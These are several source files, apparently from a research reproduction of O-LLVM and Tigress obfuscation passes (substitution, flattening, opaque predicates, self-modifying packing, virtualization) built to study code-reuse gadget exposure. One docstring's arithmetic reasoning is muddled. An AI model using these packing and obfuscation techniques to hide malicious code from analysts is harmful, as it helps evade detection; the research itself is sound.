            out.append(BinOp(dst, "xor", Const(const.value ^ key), Const(key)))
        else:
            key = rng.getrandbits(16)
            partial = fn.new_temp("enc")
            out.append(BinOp(partial, "sub", Const((const.value + key) & ((1 << 64) - 1)), Const(key)))
            out.append(Copy(dst, partial))
        return dst

    def _rewrite_instr(self, fn: IRFunction, instr: IRInstr, rng: random.Random) -> List[IRInstr]:
        out: List[IRInstr] = []

        def enc(v: Value) -> Value:
            if self._should_encode(v, rng):
                return self._encode_const(fn, v, rng, out)
            return v

        if isinstance(instr, Copy):
            src = enc(instr.src)
            out.append(Copy(instr.dst, src))
        elif isinstance(instr, BinOp):
            # Shift counts must stay literal-friendly; encode operands only
            # for value-like positions.
            if instr.op in ("shl", "shr", "sar"):
                out.append(BinOp(instr.dst, instr.op, enc(instr.lhs), instr.rhs))
            else:
                out.append(BinOp(instr.dst, instr.op, enc(instr.lhs), enc(instr.rhs)))
        elif isinstance(instr, CmpSet):
            out.append(CmpSet(instr.dst, instr.op, enc(instr.lhs), enc(instr.rhs)))
        elif isinstance(instr, Store):
            out.append(Store(instr.addr, enc(instr.src), width=instr.width))
        elif isinstance(instr, CallInstr):
            args = tuple(enc(a) for a in instr.args)
            out.append(CallInstr(instr.dst, instr.func, args))
        else:
            out.append(instr)
        return out
