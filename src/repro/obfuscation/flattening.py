"""Control flow flattening (Obfuscator-LLVM's ``-fla``).

The function's block graph is replaced by a dispatch loop: a state
variable selects which original block runs next; every block ends by
updating the state and jumping back to the dispatcher [Laszlo &
Kiss 2009].  Block IDs are randomized per function."""

from __future__ import annotations

from typing import Dict

from ..compiler.ir import Branch, Const, Copy, IRFunction, IRModule, Jump, Ret
from .base import ObfuscationPass


class ControlFlowFlattening(ObfuscationPass):
    """O-LLVM-style flattening with a linear-scan dispatcher."""

    name = "flattening"

    def run_function(self, module: IRModule, fn: IRFunction) -> None:
        rng = self._rng_for(fn)
        original_labels = [b.label for b in fn.block_order()]
        if len(original_labels) < 2:
            return  # nothing to flatten

        # Assign each original block a random, distinct state ID.
        ids: Dict[str, int] = {}
        pool = rng.sample(range(0x100, 0x10000), len(original_labels))
        for label, state_id in zip(original_labels, pool):
            ids[label] = state_id

        state = fn.new_temp("fla_state")
        old_entry = fn.entry

        new_entry_label = fn.new_label("fla_entry")
        dispatch_label = fn.new_label("fla_dispatch")

        entry_block = fn.add_block(new_entry_label)
        entry_block.instrs = [Copy(state, Const(ids[old_entry]))]
        entry_block.terminator = Jump(dispatch_label)

        # Dispatcher: a chain of compare-and-branch blocks.
        chain_labels = [dispatch_label] + [
            fn.new_label("fla_chk") for _ in range(len(original_labels) - 1)
        ]
        for i, label in enumerate(original_labels):
            chk = fn.add_block(chain_labels[i])
            next_chk = chain_labels[i + 1] if i + 1 < len(chain_labels) else chain_labels[0]
            chk.terminator = Branch("eq", state, Const(ids[label]), label, next_chk)

        # Rewrite every original block's terminator to set state + loop.
        for label in original_labels:
            block = fn.blocks[label]
            t = block.terminator
            if isinstance(t, Jump):
                block.instrs.append(Copy(state, Const(ids[t.target])))
                block.terminator = Jump(dispatch_label)
            elif isinstance(t, Branch):
                then_setter = fn.add_block(fn.new_label("fla_then"))
                then_setter.instrs = [Copy(state, Const(ids[t.then]))]
                then_setter.terminator = Jump(dispatch_label)
                els_setter = fn.add_block(fn.new_label("fla_els"))
                els_setter.instrs = [Copy(state, Const(ids[t.els]))]
                els_setter.terminator = Jump(dispatch_label)
                block.terminator = Branch(t.op, t.lhs, t.rhs, then_setter.label, els_setter.label)
            elif isinstance(t, Ret):
                pass  # returns leave the loop directly
            else:  # pragma: no cover
                raise AssertionError(f"unknown terminator {t!r}")

        fn.entry = new_entry_label
