"""Opaque predicate library.

An opaque predicate is a branch condition with a constant truth value
that is hard to determine statically [Collberg et al.].  Each generator
returns the IR instructions that compute the predicate's operands plus
the comparison to branch on.  All predicates here are number-theoretic
identities that hold over 64-bit wrap-around arithmetic (each is
verified by a solver-backed test in ``tests/test_obfuscation.py``).
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Callable, List, Tuple

from ..compiler.ir import BinOp, Const, IRFunction, IRInstr, Value


@dataclass(frozen=True)
class OpaquePredicate:
    """``(lhs <op> rhs)`` evaluates to ``truth`` on every execution."""

    instrs: Tuple[IRInstr, ...]
    op: str
    lhs: Value
    rhs: Value
    truth: bool


def _pred_x_times_x_plus_1_even(fn: IRFunction, rng: random.Random) -> OpaquePredicate:
    """x·(x+1) ≡ 0 (mod 2): consecutive integers, one is even."""
    x = fn.new_temp("op_x")
    x1 = fn.new_temp("op_x1")
    prod = fn.new_temp("op_p")
    parity = fn.new_temp("op_m")
    seedv = Const(rng.getrandbits(32))
    return OpaquePredicate(
        instrs=(
            BinOp(x, "add", seedv, Const(rng.getrandbits(16))),
            BinOp(x1, "add", x, Const(1)),
            BinOp(prod, "mul", x, x1),
            BinOp(parity, "and", prod, Const(1)),
        ),
        op="eq",
        lhs=parity,
        rhs=Const(0),
        truth=True,
    )


def _pred_square_mod_4(fn: IRFunction, rng: random.Random) -> OpaquePredicate:
    """x² mod 4 ∈ {0, 1}, so x² mod 4 == 2 is always false."""
    x = fn.new_temp("op_x")
    sq = fn.new_temp("op_sq")
    mod = fn.new_temp("op_m")
    return OpaquePredicate(
        instrs=(
            BinOp(x, "xor", Const(rng.getrandbits(32)), Const(rng.getrandbits(16))),
            BinOp(sq, "mul", x, x),
            BinOp(mod, "and", sq, Const(3)),
        ),
        op="eq",
        lhs=mod,
        rhs=Const(2),
        truth=False,
    )


def _pred_7x2_plus_1_not_square(fn: IRFunction, rng: random.Random) -> OpaquePredicate:
    """7x²+1 is never ≡ y² (mod 8): squares mod 8 are {0,1,4} while
    7x²+1 mod 8 lands in {1,8→0? no: 7·{0,1,4}+1 = {1,8,29} mod 8 = {1,0,5}}.
    We compare mod-8 residues to keep it cheap: (7x²+1) mod 8 == 5 holds
    only when x² mod 8 == 4, i.e. it *can* be 5, so instead we use the
    robust direct form: (7x²+1) mod 8 is never 2."""
    x = fn.new_temp("op_x")
    sq = fn.new_temp("op_sq")
    seven = fn.new_temp("op_7")
    plus1 = fn.new_temp("op_p1")
    mod = fn.new_temp("op_m")
    return OpaquePredicate(
        instrs=(
            BinOp(x, "add", Const(rng.getrandbits(32)), Const(3)),
            BinOp(sq, "mul", x, x),
            BinOp(seven, "mul", sq, Const(7)),
            BinOp(plus1, "add", seven, Const(1)),
            BinOp(mod, "and", plus1, Const(7)),
        ),
        op="eq",
        lhs=mod,
        rhs=Const(2),
        truth=False,
    )


def _pred_x_or_minus_x_even(fn: IRFunction, rng: random.Random) -> OpaquePredicate:
    """(x | -x) has its low bit equal to x's low bit; (x ^ -x) low bit
    is always 0: x and -x share bit 0."""
    x = fn.new_temp("op_x")
    neg = fn.new_temp("op_n")
    xor = fn.new_temp("op_xr")
    low = fn.new_temp("op_l")
    return OpaquePredicate(
        instrs=(
            BinOp(x, "add", Const(rng.getrandbits(32)), Const(rng.getrandbits(8))),
            BinOp(neg, "sub", Const(0), x),
            BinOp(xor, "xor", x, neg),
            BinOp(low, "and", xor, Const(1)),
        ),
        op="eq",
        lhs=low,
        rhs=Const(0),
        truth=True,
    )


GENERATORS: List[Callable[[IRFunction, random.Random], OpaquePredicate]] = [
    _pred_x_times_x_plus_1_even,
    _pred_square_mod_4,
    _pred_7x2_plus_1_not_square,
    _pred_x_or_minus_x_even,
]


def make_opaque_predicate(fn: IRFunction, rng: random.Random) -> OpaquePredicate:
    """A random opaque predicate, instantiated with fresh temps of ``fn``."""
    return rng.choice(GENERATORS)(fn, rng)


def make_always_true(fn: IRFunction, rng: random.Random) -> OpaquePredicate:
    """A predicate guaranteed to evaluate true (negating if needed)."""
    pred = make_opaque_predicate(fn, rng)
    if pred.truth:
        return pred
    from ..compiler.ir import negate_cmp

    return OpaquePredicate(
        instrs=pred.instrs, op=negate_cmp(pred.op), lhs=pred.lhs, rhs=pred.rhs, truth=True
    )
