"""Obfuscator configurations mirroring the paper's tool matrix.

The paper uses two obfuscators:

* **Obfuscator-LLVM** — instruction substitution, bogus control flow,
  control flow flattening (its three passes);
* **Tigress** — those plus encode-data, virtualization, JIT-dynamic,
  and self-modification.

:data:`CONFIGS` exposes the composite "all options on" configurations
used in Sec. III/VI plus one configuration per individual obfuscation
(Fig. 5's per-method study)."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List

from ..compiler import LinkedProgram, link_module, lower_program
from ..lang import parse
from .base import ObfuscationPass
from .bogus_control_flow import BogusControlFlow
from .encode_data import EncodeData
from .flattening import ControlFlowFlattening
from .self_modify import apply_self_modification
from .substitution import InstructionSubstitution
from .virtualization import Virtualization


@dataclass(frozen=True)
class ObfuscationConfig:
    """A named pipeline of IR passes plus optional image transforms."""

    name: str
    #: Factory producing fresh pass instances (passes hold RNG state).
    pass_factories: tuple = ()
    self_modify: bool = False

    def build_passes(self, seed: int = 0) -> List[ObfuscationPass]:
        return [factory(seed) for factory in self.pass_factories]


NONE = ObfuscationConfig(name="none")

SUBSTITUTION = ObfuscationConfig(
    name="substitution",
    pass_factories=(lambda seed: InstructionSubstitution(seed=seed),),
)

BOGUS_CF = ObfuscationConfig(
    name="bogus_control_flow",
    pass_factories=(lambda seed: BogusControlFlow(seed=seed),),
)

FLATTENING = ObfuscationConfig(
    name="flattening",
    pass_factories=(lambda seed: ControlFlowFlattening(seed=seed),),
)

ENCODE_DATA = ObfuscationConfig(
    name="encode_data",
    pass_factories=(lambda seed: EncodeData(seed=seed),),
)

VIRTUALIZATION = ObfuscationConfig(
    name="virtualization",
    pass_factories=(lambda seed: Virtualization(seed=seed),),
)

JIT_DYNAMIC = ObfuscationConfig(
    name="jit_dynamic",
    pass_factories=(lambda seed: Virtualization(seed=seed, encode_bytecode=True),),
)

SELF_MODIFY = ObfuscationConfig(name="self_modify", self_modify=True)

#: Obfuscator-LLVM with all three strategies on (the paper's "LLVM-Obf").
LLVM_OBF = ObfuscationConfig(
    name="llvm_obf",
    pass_factories=(
        lambda seed: InstructionSubstitution(seed=seed),
        lambda seed: BogusControlFlow(seed=seed),
        lambda seed: ControlFlowFlattening(seed=seed),
    ),
)

#: Tigress with all supported options on (the paper's "Tigress").
#: Order mirrors Tigress practice: source-level transforms first
#: (encode-data, substitution, bogus CF, flattening), then virtualize
#: the already-obfuscated functions, then self-modification at link
#: time.  Virtualizing last also keeps the interpreter un-flattened,
#: which is what Tigress emits.
#: Self-modification is *not* stacked into the composite: its packing
#: effect hides every other transform's static gadget surface (packed
#: bytes decode to garbage until startup), which would mask exactly the
#: phenomenon the experiments measure.  It is evaluated on its own in
#: the per-method study (Fig. 5), like the paper's netperf case study
#: uses LLVM-Obf rather than the packed build.
TIGRESS = ObfuscationConfig(
    name="tigress",
    pass_factories=(
        lambda seed: EncodeData(seed=seed),
        lambda seed: InstructionSubstitution(seed=seed),
        lambda seed: BogusControlFlow(seed=seed, probability=0.3),
        lambda seed: ControlFlowFlattening(seed=seed),
        lambda seed: Virtualization(seed=seed, encode_bytecode=True),
    ),
)

#: Every named configuration, for experiment sweeps.
CONFIGS: Dict[str, ObfuscationConfig] = {
    c.name: c
    for c in (
        NONE,
        SUBSTITUTION,
        BOGUS_CF,
        FLATTENING,
        ENCODE_DATA,
        VIRTUALIZATION,
        JIT_DYNAMIC,
        SELF_MODIFY,
        LLVM_OBF,
        TIGRESS,
    )
}

#: The single-method configurations behind Fig. 5.
SINGLE_METHOD_CONFIGS = (
    SUBSTITUTION,
    BOGUS_CF,
    FLATTENING,
    ENCODE_DATA,
    VIRTUALIZATION,
    JIT_DYNAMIC,
    SELF_MODIFY,
)


def build_program(
    source: str, config: ObfuscationConfig = NONE, *, seed: int = 0
) -> LinkedProgram:
    """Compile MC source under an obfuscation configuration."""
    module = lower_program(parse(source))
    for obf_pass in config.build_passes(seed):
        module = obf_pass.run(module)
    linked = link_module(module)
    if config.self_modify:
        linked = apply_self_modification(linked, seed=seed)
    return linked
