"""Self-modification obfuscation (Tigress's ``SelfModify`` family).

Approximation (documented in DESIGN.md): selected function bodies are
stored XOR-encoded in the executable, and a decoder stub prepended to
the entry point rewrites them in place before transferring control to
the original ``_start``.  Statically, the encoded ranges decode to
garbage (or to *different* instructions) — changing the gadget
population exactly as runtime code patching does — while the decoder
stub itself contributes new code.  The text section becomes writable,
as any self-modifying program requires.
"""

from __future__ import annotations

import random
from typing import Dict, List, Optional, Sequence, Tuple

from ..binfmt.image import BinaryImage, Section
from ..compiler.link import LinkedProgram
from ..isa.assembler import assemble_unit


def _function_extents(image: BinaryImage) -> Dict[str, Tuple[int, int]]:
    """Byte ranges of each ``fn_*`` symbol, ended by the next symbol."""
    text = image.text
    fn_syms = sorted(
        (addr, name)
        for name, addr in image.symbols.items()
        if name.startswith("fn_") and text.contains(addr)
    )
    boundaries = [addr for addr, _ in fn_syms] + [text.end]
    extents: Dict[str, Tuple[int, int]] = {}
    for i, (addr, name) in enumerate(fn_syms):
        extents[name] = (addr, boundaries[i + 1])
    return extents


def _decoder_stub(ranges: Sequence[Tuple[int, int]], key: int, resume: int, base: int) -> bytes:
    """Assemble the run-once decoder prepended to the entry point."""
    lines: List[str] = ["__sm_start:"]
    for i, (start, end) in enumerate(ranges):
        lines += [
            f"    mov rax, {start}",
            f"    mov rbx, {end}",
            f"__sm_loop{i}:",
            "    cmp rax, rbx",
            f"    jae __sm_done{i}",
            "    movzxb rcx, [rax]",
            f"    xor rcx, {key}",
            "    movb [rax], rcx",
            "    add rax, 1",
            f"    jmp __sm_loop{i}",
            f"__sm_done{i}:",
        ]
    lines += [
        f"    mov rdx, {resume}",
        "    jmp rdx",
    ]
    return assemble_unit("\n".join(lines), base_addr=base).code


def apply_self_modification(
    linked: LinkedProgram,
    *,
    seed: int = 0,
    functions: Optional[Sequence[str]] = None,
    probability: float = 1.0,
) -> LinkedProgram:
    """Return a new LinkedProgram with encoded function bodies.

    ``functions`` selects ``fn_*`` symbols to encode (default: every
    user function except the runtime's ``_start``); ``probability``
    samples among them.
    """
    rng = random.Random(f"{seed}/self_modify")
    key = rng.randrange(1, 256)
    image = linked.image
    extents = _function_extents(image)
    runtime = {"fn_print", "fn_print_str", "fn_print_char", "fn_exit", "fn_syscall"}
    if functions is None:
        candidates = [n for n in extents if n not in runtime]
    else:
        candidates = [n for n in functions if n in extents]
    chosen = [n for n in candidates if rng.random() < probability]
    if not chosen:
        return linked

    text = bytearray(image.text.data)
    text_base = image.text.addr
    ranges: List[Tuple[int, int]] = []
    for name in chosen:
        start, end = extents[name]
        for addr in range(start, end):
            text[addr - text_base] ^= key
        ranges.append((start, end))

    stub_base = text_base + len(text)
    stub = _decoder_stub(ranges, key, resume=image.entry, base=stub_base)
    new_text = bytes(text) + stub

    sections = [
        # Self-modifying code requires a writable text mapping.
        Section(".text", text_base, new_text, writable=True, executable=True)
    ] + [s for s in image.sections if s.name != ".text"]
    new_symbols = dict(image.symbols)
    new_symbols["__sm_start"] = stub_base
    new_image = BinaryImage(sections=sections, symbols=new_symbols, entry=stub_base)
    return LinkedProgram(image=new_image, text_asm=linked.text_asm, data_symbols=linked.data_symbols)
