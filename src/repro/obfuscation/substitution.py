"""Instruction substitution (Obfuscator-LLVM's ``-sub``).

Rewrites arithmetic/bitwise IR instructions into equivalent but more
convoluted sequences, e.g. ``a ^ b → (~a & b) | (a & ~b)`` — the exact
identity quoted in Sec. II of the paper.  Several alternatives exist
per operator and are chosen pseudo-randomly; ``rounds`` controls how
many times the whole function is re-substituted (substituting the
substitutions, as O-LLVM does)."""

from __future__ import annotations

import random
from typing import Callable, Dict, List

from ..compiler.ir import BinOp, Const, IRFunction, IRInstr, IRModule, UnOp
from .base import ObfuscationPass

Rewriter = Callable[[IRFunction, BinOp, random.Random], List[IRInstr]]


def _sub_add_xor_carry(fn: IRFunction, instr: BinOp, rng: random.Random) -> List[IRInstr]:
    """a + b = (a ^ b) + 2·(a & b)."""
    x = fn.new_temp("sub")
    c = fn.new_temp("sub")
    c2 = fn.new_temp("sub")
    return [
        BinOp(x, "xor", instr.lhs, instr.rhs),
        BinOp(c, "and", instr.lhs, instr.rhs),
        BinOp(c2, "shl", c, Const(1)),
        BinOp(instr.dst, "add", x, c2),
    ]


def _sub_add_double_neg(fn: IRFunction, instr: BinOp, rng: random.Random) -> List[IRInstr]:
    """a + b = a - (0 - b)."""
    neg = fn.new_temp("sub")
    return [
        BinOp(neg, "sub", Const(0), instr.rhs),
        BinOp(instr.dst, "sub", instr.lhs, neg),
    ]


def _sub_sub_via_not(fn: IRFunction, instr: BinOp, rng: random.Random) -> List[IRInstr]:
    """a - b = a + ~b + 1."""
    nb = fn.new_temp("sub")
    partial = fn.new_temp("sub")
    return [
        UnOp(nb, "not", instr.rhs),
        BinOp(partial, "add", instr.lhs, nb),
        BinOp(instr.dst, "add", partial, Const(1)),
    ]


def _sub_sub_via_neg(fn: IRFunction, instr: BinOp, rng: random.Random) -> List[IRInstr]:
    """a - b = a + (0 - b)."""
    neg = fn.new_temp("sub")
    return [
        BinOp(neg, "sub", Const(0), instr.rhs),
        BinOp(instr.dst, "add", instr.lhs, neg),
    ]


def _sub_xor_demorgan(fn: IRFunction, instr: BinOp, rng: random.Random) -> List[IRInstr]:
    """a ^ b = (~a & b) | (a & ~b) — the paper's Sec. II example."""
    na = fn.new_temp("sub")
    nb = fn.new_temp("sub")
    left = fn.new_temp("sub")
    right = fn.new_temp("sub")
    return [
        UnOp(na, "not", instr.lhs),
        UnOp(nb, "not", instr.rhs),
        BinOp(left, "and", na, instr.rhs),
        BinOp(right, "and", instr.lhs, nb),
        BinOp(instr.dst, "or", left, right),
    ]


def _sub_xor_or_minus_and(fn: IRFunction, instr: BinOp, rng: random.Random) -> List[IRInstr]:
    """a ^ b = (a | b) - (a & b)."""
    both = fn.new_temp("sub")
    common = fn.new_temp("sub")
    return [
        BinOp(both, "or", instr.lhs, instr.rhs),
        BinOp(common, "and", instr.lhs, instr.rhs),
        BinOp(instr.dst, "sub", both, common),
    ]


def _sub_and_or_minus_xor(fn: IRFunction, instr: BinOp, rng: random.Random) -> List[IRInstr]:
    """a & b = (a | b) - (a ^ b)."""
    both = fn.new_temp("sub")
    diff = fn.new_temp("sub")
    return [
        BinOp(both, "or", instr.lhs, instr.rhs),
        BinOp(diff, "xor", instr.lhs, instr.rhs),
        BinOp(instr.dst, "sub", both, diff),
    ]


def _sub_and_demorgan(fn: IRFunction, instr: BinOp, rng: random.Random) -> List[IRInstr]:
    """a & b = ~(~a | ~b)."""
    na = fn.new_temp("sub")
    nb = fn.new_temp("sub")
    either = fn.new_temp("sub")
    return [
        UnOp(na, "not", instr.lhs),
        UnOp(nb, "not", instr.rhs),
        BinOp(either, "or", na, nb),
        UnOp(instr.dst, "not", either),
    ]


def _sub_or_and_plus_xor(fn: IRFunction, instr: BinOp, rng: random.Random) -> List[IRInstr]:
    """a | b = (a & b) + (a ^ b)."""
    common = fn.new_temp("sub")
    diff = fn.new_temp("sub")
    return [
        BinOp(common, "and", instr.lhs, instr.rhs),
        BinOp(diff, "xor", instr.lhs, instr.rhs),
        BinOp(instr.dst, "add", common, diff),
    ]


def _sub_or_demorgan(fn: IRFunction, instr: BinOp, rng: random.Random) -> List[IRInstr]:
    """a | b = ~(~a & ~b)."""
    na = fn.new_temp("sub")
    nb = fn.new_temp("sub")
    both = fn.new_temp("sub")
    return [
        UnOp(na, "not", instr.lhs),
        UnOp(nb, "not", instr.rhs),
        BinOp(both, "and", na, nb),
        UnOp(instr.dst, "not", both),
    ]


REWRITERS: Dict[str, List[Rewriter]] = {
    "add": [_sub_add_xor_carry, _sub_add_double_neg],
    "sub": [_sub_sub_via_not, _sub_sub_via_neg],
    "xor": [_sub_xor_demorgan, _sub_xor_or_minus_and],
    "and": [_sub_and_or_minus_xor, _sub_and_demorgan],
    "or": [_sub_or_and_plus_xor, _sub_or_demorgan],
}


class InstructionSubstitution(ObfuscationPass):
    """O-LLVM-style instruction substitution."""

    name = "substitution"

    def __init__(self, seed: int = 0, probability: float = 0.8, rounds: int = 1):
        super().__init__(seed)
        self.probability = probability
        self.rounds = rounds

    def run_function(self, module: IRModule, fn: IRFunction) -> None:
        rng = self._rng_for(fn)
        for _ in range(self.rounds):
            for block in fn.blocks.values():
                new_instrs: List[IRInstr] = []
                for instr in block.instrs:
                    rewriters = (
                        REWRITERS.get(instr.op) if isinstance(instr, BinOp) else None
                    )
                    if rewriters and rng.random() < self.probability:
                        new_instrs.extend(rng.choice(rewriters)(fn, instr, rng))
                    else:
                        new_instrs.append(instr)
                block.instrs = new_instrs
