"""Virtualization obfuscation (Tigress's ``Virtualize``).

Each selected function is translated into bytecode for a custom
register-based virtual machine, and its body is replaced with an
interpreter: a fetch–decode–dispatch loop whose handler chain is built
from ordinary IR blocks.  The bytecode lives in the data section; the
interpreter's dispatch chain floods the binary with conditional jumps —
the structural reason Fig. 5 ranks virtualization among the obfuscations
that introduce the most code-reuse risk.

VM design (one instruction = four little-endian u64 words
``[opcode, a, b, c]``):

===========  ==================================================
opcode        semantics
===========  ==================================================
CONST         slots[a] = b
COPY          slots[a] = slots[b]
ADD..SAR      slots[a] = slots[b] <op> slots[c]
NOT/NEG       slots[a] = op slots[b]
EQ..SGE       slots[a] = (slots[b] cmp slots[c]) ? 1 : 0
LOAD8/LOAD1   slots[a] = mem[slots[b]]
STORE8/1      mem[slots[a]] = slots[b]
LEA_LOCAL     slots[a] = vmem_base + b
ADDR_GLOBAL   slots[a] = address of global #b (table-dispatched)
JMP           pc = a
BRNZ          pc = (slots[a] != 0) ? b : pc + 1
CALL          slots[a] = call callee #b with args slots[c..c+arity)
RETV          return slots[a]
===========  ==================================================
"""

from __future__ import annotations

import random
import struct
from dataclasses import dataclass, field
from typing import Dict, List, Tuple

from ..compiler.ir import (
    AddrOfGlobal,
    AddrOfLocal,
    BinOp,
    Block,
    Branch,
    CallInstr,
    CmpSet,
    Const,
    Copy,
    IRFunction,
    IRInstr,
    IRModule,
    Jump,
    Load,
    Ret,
    Store,
    Temp,
    UnOp,
    Value,
)
from .base import ObfuscationPass

# -- opcode numbering --------------------------------------------------------

OP_CONST = 1
OP_COPY = 2
_BIN_BASE = 3
BIN_OPS_ORDER = ("add", "sub", "mul", "udiv", "umod", "and", "or", "xor", "shl", "shr", "sar")
OP_BIN = {op: _BIN_BASE + i for i, op in enumerate(BIN_OPS_ORDER)}  # 3..13
OP_NOT = 14
OP_NEG = 15
_CMP_BASE = 16
CMP_OPS_ORDER = ("eq", "ne", "ult", "ule", "ugt", "uge", "slt", "sle", "sgt", "sge")
OP_CMP = {op: _CMP_BASE + i for i, op in enumerate(CMP_OPS_ORDER)}  # 16..25
OP_LOAD8 = 26
OP_LOAD1 = 27
OP_STORE8 = 28
OP_STORE1 = 29
OP_LEA_LOCAL = 30
OP_ADDR_GLOBAL = 31
OP_JMP = 32
OP_BRNZ = 33
OP_CALL = 34
OP_RETV = 35

#: Arities of runtime builtins, for CALL encoding.
BUILTIN_ARITY = {"print": 1, "print_str": 1, "print_char": 1, "exit": 1, "syscall": 4}

WORDS_PER_INSTR = 4
BYTES_PER_INSTR = 8 * WORDS_PER_INSTR


@dataclass
class VMCode:
    """The result of translating one function to bytecode."""

    instrs: List[List[int]] = field(default_factory=list)  # [op, a, b, c]
    n_slots: int = 0
    vmem_size: int = 0
    globals_table: List[str] = field(default_factory=list)  # index → symbol
    call_table: List[Tuple[str, int]] = field(default_factory=list)  # index → (name, arity)

    def to_bytes(self) -> bytes:
        out = bytearray()
        for instr in self.instrs:
            padded = (instr + [0, 0, 0])[:4]
            out += struct.pack("<4Q", *(v & ((1 << 64) - 1) for v in padded))
        return bytes(out)


class _Translator:
    """IRFunction → VMCode."""

    def __init__(self, fn: IRFunction):
        self.fn = fn
        self.code = VMCode()
        self._slots: Dict[str, int] = {}
        self._global_index: Dict[str, int] = {}
        self._call_index: Dict[Tuple[str, int], int] = {}
        self._vmem_offsets: Dict[str, int] = {}
        self._block_pc: Dict[str, int] = {}
        self._fixups: List[Tuple[int, int, str]] = []  # (instr idx, word idx, label)

    def slot(self, temp: Temp) -> int:
        if temp.name not in self._slots:
            self._slots[temp.name] = len(self._slots)
        return self._slots[temp.name]

    def fresh_slot(self) -> int:
        index = len(self._slots)
        self._slots[f"__scratch{index}"] = index
        return index

    def value_slot(self, value: Value) -> int:
        """Slot holding ``value`` — consts are materialized via CONST."""
        if isinstance(value, Temp):
            return self.slot(value)
        scratch = self.fresh_slot()
        self.emit(OP_CONST, scratch, value.value)
        return scratch

    def global_ref(self, symbol: str) -> int:
        if symbol not in self._global_index:
            self._global_index[symbol] = len(self.code.globals_table)
            self.code.globals_table.append(symbol)
        return self._global_index[symbol]

    def call_ref(self, name: str, arity: int) -> int:
        key = (name, arity)
        if key not in self._call_index:
            self._call_index[key] = len(self.code.call_table)
            self.code.call_table.append(key)
        return self._call_index[key]

    def emit(self, op: int, a: int = 0, b: int = 0, c: int = 0) -> int:
        self.code.instrs.append([op, a, b, c])
        return len(self.code.instrs) - 1

    def translate(self) -> VMCode:
        # vmem layout for the function's local arrays.
        offset = 0
        for name, size in self.fn.local_arrays.items():
            self._vmem_offsets[name] = offset
            offset += (size + 7) & ~7
        self.code.vmem_size = offset
        # Reserve parameter slots first (calling convention: params are
        # slots 0..n-1 in declaration order).
        for p in self.fn.params:
            self.slot(Temp(p))
        for block in self.fn.block_order():
            self._block_pc[block.label] = len(self.code.instrs)
            for instr in block.instrs:
                self._translate_instr(instr)
            self._translate_terminator(block)
        for instr_index, word_index, label in self._fixups:
            self.code.instrs[instr_index][word_index] = self._block_pc[label]
        self.code.n_slots = len(self._slots)
        return self.code

    # -- instruction translation ----------------------------------------------

    def _translate_instr(self, instr: IRInstr) -> None:
        if isinstance(instr, Copy):
            if isinstance(instr.src, Const):
                self.emit(OP_CONST, self.slot(instr.dst), instr.src.value)
            else:
                self.emit(OP_COPY, self.slot(instr.dst), self.slot(instr.src))
        elif isinstance(instr, BinOp):
            b = self.value_slot(instr.lhs)
            c = self.value_slot(instr.rhs)
            self.emit(OP_BIN[instr.op], self.slot(instr.dst), b, c)
        elif isinstance(instr, UnOp):
            b = self.value_slot(instr.src)
            self.emit(OP_NOT if instr.op == "not" else OP_NEG, self.slot(instr.dst), b)
        elif isinstance(instr, CmpSet):
            b = self.value_slot(instr.lhs)
            c = self.value_slot(instr.rhs)
            self.emit(OP_CMP[instr.op], self.slot(instr.dst), b, c)
        elif isinstance(instr, Load):
            b = self.value_slot(instr.addr)
            self.emit(OP_LOAD8 if instr.width == 8 else OP_LOAD1, self.slot(instr.dst), b)
        elif isinstance(instr, Store):
            a = self.value_slot(instr.addr)
            b = self.value_slot(instr.src)
            self.emit(OP_STORE8 if instr.width == 8 else OP_STORE1, a, b)
        elif isinstance(instr, AddrOfLocal):
            self.emit(OP_LEA_LOCAL, self.slot(instr.dst), self._vmem_offsets[instr.local])
        elif isinstance(instr, AddrOfGlobal):
            self.emit(OP_ADDR_GLOBAL, self.slot(instr.dst), self.global_ref(instr.symbol))
        elif isinstance(instr, CallInstr):
            arg_base = len(self._slots)
            arg_slots = [self.fresh_slot() for _ in instr.args]
            for arg_slot, arg in zip(arg_slots, instr.args):
                if isinstance(arg, Const):
                    self.emit(OP_CONST, arg_slot, arg.value)
                else:
                    self.emit(OP_COPY, arg_slot, self.slot(arg))
            index = self.call_ref(instr.func, len(instr.args))
            dst = self.slot(instr.dst) if instr.dst is not None else self.fresh_slot()
            self.emit(OP_CALL, dst, index, arg_base)
        else:  # pragma: no cover - exhaustive
            raise AssertionError(f"unhandled IR instr {instr!r}")

    def _translate_terminator(self, block: Block) -> None:
        t = block.terminator
        if isinstance(t, Jump):
            index = self.emit(OP_JMP, 0)
            self._fixups.append((index, 1, t.target))
        elif isinstance(t, Branch):
            b = self.value_slot(t.lhs)
            c = self.value_slot(t.rhs)
            cond = self.fresh_slot()
            self.emit(OP_CMP[t.op], cond, b, c)
            br = self.emit(OP_BRNZ, cond, 0)
            self._fixups.append((br, 2, t.then))
            jmp = self.emit(OP_JMP, 0)
            self._fixups.append((jmp, 1, t.els))
        elif isinstance(t, Ret):
            value = t.value if t.value is not None else Const(0)
            self.emit(OP_RETV, self.value_slot(value))
        else:  # pragma: no cover
            raise AssertionError(f"unhandled terminator {t!r}")


def _build_interpreter(
    fn_name: str,
    params: List[str],
    code: VMCode,
    bytecode_symbol: str,
    rng: random.Random,
) -> IRFunction:
    """Generate the interpreter IRFunction that replaces the original."""
    fn = IRFunction(name=fn_name, params=list(params))
    slots_bytes = max(code.n_slots, 1) * 8
    fn.local_arrays["__vm_slots"] = slots_bytes
    if code.vmem_size:
        fn.local_arrays["__vm_mem"] = code.vmem_size

    slots_base = fn.new_temp("vm_slots")
    vmem_base = fn.new_temp("vm_vmem")
    bc_base = fn.new_temp("vm_bc")
    pc = fn.new_temp("vm_pc")
    op_t = fn.new_temp("vm_op")
    a_t = fn.new_temp("vm_a")
    b_t = fn.new_temp("vm_b")
    c_t = fn.new_temp("vm_c")

    entry = fn.add_block("entry")
    entry.instrs.append(AddrOfLocal(slots_base, "__vm_slots"))
    if code.vmem_size:
        entry.instrs.append(AddrOfLocal(vmem_base, "__vm_mem"))
    else:
        entry.instrs.append(Copy(vmem_base, Const(0)))
    entry.instrs.append(AddrOfGlobal(bc_base, bytecode_symbol))
    # Spill native params into their slots (slots 0..n-1 by convention).
    for i, p in enumerate(params):
        addr = fn.new_temp("vm_pa")
        entry.instrs.append(BinOp(addr, "add", slots_base, Const(8 * i)))
        entry.instrs.append(Store(addr, Temp(p), width=8))
    entry.instrs.append(Copy(pc, Const(0)))
    entry.terminator = Jump("vm_fetch")

